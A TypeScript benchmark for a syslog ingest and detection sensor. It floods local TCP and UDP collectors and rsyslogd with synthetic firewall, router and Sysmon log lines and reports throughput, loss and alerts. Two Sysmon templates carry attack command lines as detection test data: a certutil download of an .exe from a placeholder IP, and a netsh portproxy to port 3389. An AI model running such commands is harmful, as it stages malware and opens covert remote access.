/**
 * Syslog ingest throughput on loopback, with parsing, vendor interpretation and all detections on: N
 * messages (a mix of ASA/IOS/SRX/PAN-OS/Fortinet flow lines, Sysmon key=value host events with download and
 * portproxy command lines, Cisco/Junos/RFC 5424 plain lines) sent by a separate Node process over TCP
 * (octet-counted, written as fast as the socket drains) and over UDP, to our collectors; then the same
 * streams to rsyslogd (own config: imtcp/imudp → omfile, one line per message) in the same run, counting
 * the lines it writes. Prints messages/s (wall, and our CPU; for UDP the CPU includes the reader thread),
 * loss, alerts, and for UDP the receive buffer granted and the host-wide kernel RcvbufErrors delta (the
 * datagrams the kernel dropped: with no other UDP traffic, that is where the loss is). The in-process line
 * is the same messages through SyslogIngest without sockets (median of `--repeat` passes).
 * `--mix=alerting` (default) sends LINES in turn (one message in four a Windows event, one in six alerting);
 * `--mix=realistic` is mostly benign router/firewall traffic (ASA Built+Teardown, IOS ACL, SRX, PAN-OS,
 * FortiGate, link/BGP/sshd/cron lines) with 3% Windows events (Sysmon 1 and 3) and 1% alerting (certutil
 * download, netsh portproxy); weights in REALISTIC. `--only=inproc|tcp|udp` runs one part.
 * Usage: node --import tsx bench/syslog.bench.ts [N=200000] [--no-rsyslog] [--no-detections]
 *        [--mix=alerting|realistic] [--only=inproc|tcp|udp] [--repeat=K]
 *        [--profile-inproc=FILE.cpuprofile] (a profile of the in-process loop only)
 *        [--udp-same-thread] (read the UDP socket on the parsing thread, not a reader thread)
 *        [--udp-batch=N] [--udp-idle-batch=N] (parse batch sizes of the same-thread reader)
 *        [--no-syslog-events] (only flow/host events: what the SyslogEvent consumers cost)
 */
import { execFileSync, spawn } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { Session } from 'node:inspector'
import { loadavg, tmpdir } from 'node:os'
import path from 'node:path'
import { Counters } from '../analytics/counters.js'
import type { DetectionInstance } from '../analytics/detection.js'
import { DETECTIONS } from '../analytics/detections/index.js'
import type { SensorEvent } from '../analytics/events.js'
import { AddressSet, DEFAULT_INTERNAL_CIDRS } from '../analytics/net/address-set.js'
import { startSyslogTcp } from '../sensor/collectors/syslog-tcp.js'
import { startSyslogUdp } from '../sensor/collectors/syslog-udp.js'
import { SyslogIngest } from '../sensor/syslog-ingest.js'

const args = process.argv.slice(2)
const N = Number(args.find((a) => /^\d+$/.test(a)) ?? 200_000)
const WITH_RSYSLOG = !args.includes('--no-rsyslog')
const WITH_DETECTIONS = !args.includes('--no-detections')
const CAP_MS = 60_000
const MIX = args.find((a) => a.startsWith('--mix='))?.slice(6) ?? 'alerting'
const ONLY = args.find((a) => a.startsWith('--only='))?.slice(7)
/** Writes a .cpuprofile of the in-process loop only (no message generation, no tsx start-up). */
const PROFILE = args.find((a) => a.startsWith('--profile-inproc='))?.slice(17)
/** In-process passes (fresh receiver each; the median is printed). */
const REPEAT = Math.max(1, Number(args.find((a) => a.startsWith('--repeat='))?.slice(9) ?? 1))

const UDP_BATCH = ((b) => (b !== undefined ? Number(b) : undefined))(
  args.find((a) => a.startsWith('--udp-batch='))?.slice(12),
)

const UDP_IDLE_BATCH = ((b) => (b !== undefined ? Number(b) : undefined))(
  args.find((a) => a.startsWith('--udp-idle-batch='))?.slice(17),
)

/** Host-wide UDP RcvbufErrors (datagrams the kernel dropped for a full socket buffer), /proc/net/snmp. */
function udpRcvbufErrors(): number {
  try {
    const lines = readFileSync('/proc/net/snmp', 'utf8')
      .split('\n')
      .filter((l) => l.startsWith('Udp:'))
    const names = (lines[0] ?? '').split(' ')
    const values = (lines[1] ?? '').split(' ')
    return Number(values[names.indexOf('RcvbufErrors')] ?? Number.NaN)
  } catch {
    return Number.NaN
  }
}

function post(s: Session, method: string): Promise<unknown> {
  return new Promise((resolve, reject) => s.post(method, (err, res) => (err ? reject(err) : resolve(res))))
}

const LINES = [
  '<166>Mar 04 2024 10:01:23 fw01 : %ASA-6-302014: Teardown TCP connection {i} for outside:198.51.100.80/443 to inside:10.1.{a}.{b}/5{c} duration 0:01:23 bytes 48213 TCP FINs',
  '<190>{i}: Nov 21 22:23:27: %SEC-6-IPACCESSLOGP: list ACL-OUT permitted tcp 10.1.{a}.{b}(5{c}) -> 198.51.100.69(80), 3 packets',
  '<14>Mar  4 10:00:30 srx1 RT_FLOW: RT_FLOW_SESSION_CLOSE: session closed TCP FIN: 10.1.{a}.{b}/5{c}->198.51.100.80/80 junos-http 203.0.113.2/21000->198.51.100.80/80 None None 6 p1 trust untrust {i} 12(1234) 40(52428) 30 HTTP UNKNOWN N/A(N/A) ge-0/0/0.0 No',
  '<14>Mar  4 10:00:40 pa1 1,2024/03/04 10:00:40,016401002737,TRAFFIC,end,2561,2024/03/04 10:00:40,10.1.{a}.{b},198.51.100.80,203.0.113.2,198.51.100.80,allow-web,,,web-browsing,vsys1,trust,untrust,eth1,eth2,fwd,2024/03/04 10:00:40,{i},1,5{c},80,1,80,0x19,tcp,allow,21000,1000,20000,15,2024/03/04 10:00:28,12,any,0,1,0x0,x,US,0,5,10,tcp-fin',
  '<189>date=2024-03-04 time=10:00:41 type="traffic" subtype="forward" srcip=10.1.{a}.{b} srcport=5{c} dstip=198.51.100.81 dstport=443 proto=6 action="close" service="HTTPS" duration=11 sentbyte=1188 rcvdbyte=1224 sentpkt=17 rcvdpkt=16',
  '<14>1 2024-03-04T10:00:42.123Z ws{a}.corp.example Microsoft-Windows-Sysmon 2580 1 - EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws{a}.corp.example User=CORP\\u{b} Image=C:\\Windows\\System32\\certutil.exe CommandLine="certutil -urlcache -split -f http://198.51.100.7/{i}.exe p.exe"',
  '<14>1 2024-03-04T10:00:43.123Z ws{a}.corp.example Microsoft-Windows-Sysmon 2580 1 - EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws{a}.corp.example Image=C:\\Windows\\System32\\netsh.exe CommandLine="netsh I p a v l={c} c=203.0.113.{b} connectp=3389"',
  '<14>1 2024-03-04T10:00:44.123Z ws{a}.corp.example Microsoft-Windows-Sysmon 2580 1 - EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws{a}.corp.example Image=C:\\Windows\\explorer.exe CommandLine="C:\\Windows\\explorer.exe /factory,{i}"',
  '<189>{i}: router1: *Nov 14 08:30:56.699: %LINK-5-CHANGED: Interface GigabitEthernet{b}, changed state to administratively down',
  '<28>Jul 20 21:45:59 vmx01 rpd[1234]: RPD_BGP_NEIGHBOR_STATE_CHANGED: BGP peer 10.0.{a}.{b} (External AS 65000) changed state from Established to Idle (event {i})',
  '<165>1 2024-03-04T10:00:45.003+01:00 app{a}.example evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="{i}"] An application event log entry {b}',
  '<13>Mar  4 10:00:46 host{a} sshd[{c}]: Accepted publickey for deploy from 10.2.{a}.{b} port 5{c} ssh2',
]

/** Realistic mix: [weight out of 200, template]. Benign network lines dominate; 6 of 200 are Windows events. */
const REALISTIC: readonly [number, string][] = [
  [
    24,
    '<166>Mar 04 2024 10:01:22 fw01 : %ASA-6-302013: Built outbound TCP connection {i} for outside:198.51.100.80/443 (198.51.100.80/443) to inside:10.1.{a}.{b}/5{c} (203.0.113.2/5{c})',
  ],
  [24, LINES[0] ?? ''],
  [
    10,
    '<166>Mar 04 2024 10:01:22 fw01 : %ASA-6-305011: Built dynamic TCP translation from inside:10.1.{a}.{b}/5{c} to outside:203.0.113.2/{c}',
  ],
  [24, LINES[1] ?? ''],
  [20, LINES[2] ?? ''],
  [20, LINES[3] ?? ''],
  [20, LINES[4] ?? ''],
  [10, LINES[8] ?? ''],
  [10, LINES[9] ?? ''],
  [10, LINES[11] ?? ''],
  [8, LINES[10] ?? ''],
  [14, '<78>Mar  4 10:00:47 host{a} CRON[{c}]: (root) CMD (/usr/lib/sysstat/debian-sa1 1 1)'],
  [
    2,
    '<14>1 2024-03-04T10:00:44.123Z ws{a}.corp.example Microsoft-Windows-Sysmon 2580 1 - EventID=3 SourceName=Microsoft-Windows-Sysmon Computer=ws{a}.corp.example Image=C:\\Program Files\\Browser\\browser.exe DestinationIp=198.51.100.{b} DestinationPort=443 DestinationHostname=cdn{a}.example.net',
  ],
  [1, LINES[5] ?? ''],
  [1, LINES[6] ?? ''],
  [2, LINES[7] ?? ''],
]

function template(i: number): string {
  if (MIX !== 'realistic') return LINES[i % LINES.length] ?? ''
  // A fixed permutation of the 200 weighted slots so kinds interleave.
  let k = (i * 73) % 200
  for (const [w, t] of REALISTIC) {
    if (k < w) return t
    k -= w
  }
  return LINES[0] ?? ''
}

function makeMessages(n: number): Buffer[] {
  const out: Buffer[] = []
  for (let i = 0; i < n; i++) {
    const t = template(i)
    out.push(
      Buffer.from(
        t
          .replaceAll('{i}', String(i))
          .replaceAll('{a}', String((i >> 8) & 255))
          .replaceAll('{b}', String(i & 255))
          .replaceAll('{c}', String(1000 + (i % 9000))),
      ),
    )
  }
  return out
}

function makeReceiver() {
  const ctx = { internal: new AddressSet(DEFAULT_INTERNAL_CIDRS) }
  const dets: { inputs: ReadonlySet<string>; inst: DetectionInstance }[] = (WITH_DETECTIONS ? DETECTIONS : []).map(
    (d) => ({
      inputs: new Set<string>(d.inputs),
      inst: d.create(d.params, ctx),
    }),
  )
  const counters = new Counters()
  let alerts = 0
  let events = 0
  const emit = (ev: SensorEvent) => {
    events++
    for (const d of dets) {
      if (!d.inputs.has(ev.kind)) continue
      const a = d.inst.onEvent(ev)
      if (a !== undefined) alerts += a.length
    }
  }
  const ingest = new SyslogIngest({
    emit,
    counters,
    source: 'bench',
    emitSyslogEvents: !args.includes('--no-syslog-events'),
  })
  return { counters, ingest, alerts: () => alerts, events: () => events }
}

const SENDER = `
const fs = require('fs'), net = require('net'), dgram = require('dgram')
const [mode, file, port] = process.argv.slice(1)
const buf = fs.readFileSync(file)
if (mode === 'tcp') {
  const s = net.connect(Number(port), '127.0.0.1', () => {
    let o = 0
    const w = () => {
      while (o < buf.length) {
        const e = Math.min(o + 262144, buf.length)
        const ok = s.write(buf.subarray(o, e))
        o = e
        if (!ok) return s.once('drain', w)
      }
      s.end()
    }
    w()
  })
} else {
  const s = dgram.createSocket('udp4')
  const msgs = []
  let o = 0
  while (o < buf.length) { const lf = buf.indexOf(10, o); msgs.push(buf.subarray(o, lf)); o = lf + 1 }
  let i = 0, inflight = 0
  const pump = () => {
    while (i < msgs.length && inflight < 64) { inflight++; s.send(msgs[i++], Number(port), '127.0.0.1', () => { inflight--; if (i < msgs.length) pump(); else if (inflight === 0) s.close() }) }
  }
  pump()
}
`

function runSender(mode: 'tcp' | 'udp', file: string, port: number): Promise<number> {
  return new Promise((resolve) => {
    const t0 = performance.now()
    const p = spawn(process.execPath, ['-e', SENDER, mode, file, String(port)], { stdio: 'inherit' })
    p.on('exit', () => resolve(performance.now() - t0))
  })
}

async function until(cond: () => boolean, capMs: number): Promise<boolean> {
  const end = performance.now() + capMs
  while (!cond()) {
    if (performance.now() > end) return false
    await new Promise((r) => setTimeout(r, 5))
  }
  return true
}

const fmt = (n: number) => Math.round(n).toLocaleString('en-US')

async function benchOurs(mode: 'tcp' | 'udp', file: string): Promise<void> {
  const r = makeReceiver()
  const l =
    mode === 'tcp'
      ? await startSyslogTcp({ host: '127.0.0.1', port: 0, ingest: r.ingest, counters: r.counters })
      : await startSyslogUdp({
          host: '127.0.0.1',
          port: 0,
          ingest: r.ingest,
          recvBufferSize: 32 << 20,
          ...(UDP_BATCH !== undefined ? { batchSize: UDP_BATCH } : {}),
          ...(UDP_IDLE_BATCH !== undefined ? { idleBatchSize: UDP_IDLE_BATCH } : {}),
          readerThread: !args.includes('--udp-same-thread'),
        })
  const kernel0 = udpRcvbufErrors()
  const received = () => r.counters.get('syslog_messages_total')
  const cpu0 = process.cpuUsage()
  const t0 = performance.now()
  let senderDone = false
  const sender = runSender(mode, file, l.address.port).then((x) => {
    senderDone = true
    return x
  })
  // Done when all arrived, or (UDP loss) when the sender has finished and nothing arrived for 1 s.
  let last = -1
  let lastChange = t0
  await until(() => {
    const n = received()
    if (n !== last) {
      last = n
      lastChange = performance.now()
    }
    return n >= N || (senderDone && performance.now() - lastChange > 1000)
  }, CAP_MS)
  const sendMs = await sender
  const ms = (received() >= N ? performance.now() : lastChange) - t0
  const cpu = process.cpuUsage(cpu0)
  await l.close()
  const got = received()
  const kernelDrops = udpRcvbufErrors() - kernel0
  const cpuS = (cpu.user + cpu.system) / 1e6
  console.log(
    `ours ${mode}: ${fmt(got)}/${fmt(N)} messages (loss ${fmt(N - got)}), ${fmt(got / (ms / 1000))} msg/s wall, ` +
      `${fmt(got / cpuS)} msg/s per CPU-second, sender ${fmt(sendMs)} ms, events ${fmt(r.events())}, alerts ${fmt(r.alerts())}, ` +
      `errors ${JSON.stringify(r.counters.family('syslog_errors_total'))}` +
      (mode === 'udp'
        ? `, SO_RCVBUF granted ${l.recvBufferBytes ?? '?'} B, kernel RcvbufErrors +${fmt(kernelDrops)} (host-wide)`
        : ''),
  )
}

async function benchRsyslog(file: string, udpFile: string): Promise<void> {
  const dir = mkdtempSync(path.join(tmpdir(), 'isyslog-bench-'))
  const tPort = 30000 + Math.floor(Math.random() * 10000)
  const uPort = tPort + 1
  const out = path.join(dir, 'out.log')
  writeFileSync(
    path.join(dir, 'rsyslog.conf'),
    [
      `global(workDirectory="${dir}" maxMessageSize="64k")`,
      'module(load="imtcp")',
      `input(type="imtcp" address="127.0.0.1" port="${tPort}")`,
      'module(load="imudp")',
      `input(type="imudp" address="127.0.0.1" port="${uPort}" rcvbufSize="32m")`,
      'template(name="msgonly" type="string" string="%msg%\\n")',
      `*.* action(type="omfile" file="${out}" template="msgonly")`,
      '',
    ].join('\n'),
  )
  const rs = spawn('rsyslogd', ['-n', '-f', path.join(dir, 'rsyslog.conf'), '-i', path.join(dir, 'pid')], {
    stdio: 'ignore',
  })
  const lines = () => {
    try {
      return Number(execFileSync('wc', ['-l', out], { encoding: 'utf8' }).trim().split(' ')[0])
    } catch {
      return 0
    }
  }
  try {
    await until(() => {
      try {
        execFileSync('logger', ['-n', '127.0.0.1', '-P', String(tPort), '-T', 'probe'], { stdio: 'ignore' })
      } catch {
        return false
      }
      return lines() > 0
    }, 10000)
    for (const [mode, f] of [
      ['tcp', file],
      ['udp', udpFile],
    ] as const) {
      const base = lines()
      const kernel0 = udpRcvbufErrors()
      const t0 = performance.now()
      const sendMs = await runSender(mode, f, mode === 'tcp' ? tPort : uPort)
      let last = -1
      let lastChange = performance.now()
      await until(() => {
        const n = lines() - base
        if (n !== last) {
          last = n
          lastChange = performance.now()
        }
        return n >= N || performance.now() - lastChange > 1500
      }, CAP_MS)
      const got = lines() - base
      const ms = (got >= N ? performance.now() : lastChange) - t0
      console.log(
        `rsyslogd ${mode}: ${fmt(got)}/${fmt(N)} lines written (loss ${fmt(N - got)}), ${fmt(got / (ms / 1000))} msg/s wall, sender ${fmt(sendMs)} ms` +
          (mode === 'udp' ? `, kernel RcvbufErrors +${fmt(udpRcvbufErrors() - kernel0)} (host-wide)` : ''),
      )
    }
  } finally {
    rs.kill('SIGTERM')
    await new Promise((r) => rs.once('exit', r))
    rmSync(dir, { recursive: true, force: true })
  }
}

const msgs = makeMessages(N)
const dir = mkdtempSync(path.join(tmpdir(), 'isyslog-data-'))
const tcpFile = path.join(dir, 'tcp.bin')
const udpFile = path.join(dir, 'udp.txt')
writeFileSync(tcpFile, Buffer.concat(msgs.flatMap((m) => [Buffer.from(`${m.length} `), m])))
writeFileSync(udpFile, Buffer.concat(msgs.flatMap((m) => [m, Buffer.from('\n')])))
console.log(
  `${fmt(N)} messages (mix ${MIX}), ${(readFileSync(tcpFile).length / 1e6).toFixed(1)} MB octet-counted; node ${process.version}; detections: ${WITH_DETECTIONS ? DETECTIONS.map((d) => d.id).join(', ') : 'off'}; load average ${loadavg()
    .map((x) => x.toFixed(1))
    .join(' ')}`,
)
if (ONLY === undefined || ONLY === 'inproc') {
  // In-process floor: the same messages through SyslogIngest (+ detections) with no sockets, CPU time only.
  const r = makeReceiver()
  const session = PROFILE !== undefined ? new Session() : undefined
  if (session !== undefined) {
    session.connect()
    await post(session, 'Profiler.enable')
    await post(session, 'Profiler.start')
  }
  const rates: number[] = []
  let alerts = 0
  for (let pass = 0; pass < REPEAT; pass++) {
    const rr = pass === 0 ? r : makeReceiver()
    const c0 = process.cpuUsage()
    for (const m of msgs) rr.ingest.handleMessage(m, 0, m.length, '127.0.0.1', 1.7e9)
    const c = process.cpuUsage(c0)
    rates.push(N / ((c.user + c.system) / 1e6))
    alerts = rr.alerts()
  }
  if (session !== undefined && PROFILE !== undefined) {
    const { profile } = (await post(session, 'Profiler.stop')) as { profile: unknown }
    writeFileSync(PROFILE, JSON.stringify(profile))
    session.disconnect()
  }
  const sorted = [...rates].sort((a, b) => a - b)
  console.log(
    `in-process ingest: ${fmt(sorted[sorted.length >> 1] ?? 0)} msg/s per CPU-second (median of ${REPEAT}; best ${fmt(sorted[sorted.length - 1] ?? 0)}), alerts ${fmt(alerts)} per pass`,
  )
}
try {
  if (ONLY === undefined || ONLY === 'tcp') await benchOurs('tcp', tcpFile)
  if (ONLY === undefined || ONLY === 'udp') await benchOurs('udp', udpFile)
  if (WITH_RSYSLOG && ONLY === undefined) await benchRsyslog(tcpFile, udpFile)
} finally {
  rmSync(dir, { recursive: true, force: true })
}
